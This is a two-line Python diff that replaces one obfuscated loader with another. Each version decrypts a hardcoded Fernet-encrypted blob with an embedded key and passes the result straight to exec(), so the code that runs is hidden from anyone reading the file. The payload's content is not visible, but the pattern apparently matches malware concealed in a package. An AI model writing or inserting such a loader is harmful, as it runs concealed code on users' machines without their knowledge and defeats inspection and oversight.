@@ -1,2 +1,2 @@
 from cryptography.fernet import Fernet
-exec(Fernet(b'wb_fclzosW-9adi7D4cdxdlMu2AFYGGJCllUI9IYyMo=').decrypt(b'gAAAAABrAsAdeupgCgKng7B6cW5t8J--gFWjJEeJgIDRcoLAdDAbeySYNdPGwHuqdOz5DzibfeDeG_seeQnYLygTVSEtbeRry85RdykfRRM10x_6VATonrSiiNwcWRtuDPDtKzLA1-rf'))
+exec(Fernet(b'X-c2OFyaMnYHabHxmX5KGotOCe0nXCnha_NS-W8ZQBg=').decrypt(b'gAAAAABrAsDzBEJMXvKCUQjGsyTSjDrCk3Edxx33ejhQyJRrAoE2Fyi9ezVTYUq1GGRmyja2HhCheXPHkoSAtvbI1AsiN9UomMZ9YAmtmhLQczRxqs-k_PjgpPO_Fi8j_CkxH4kqNwNQ'))
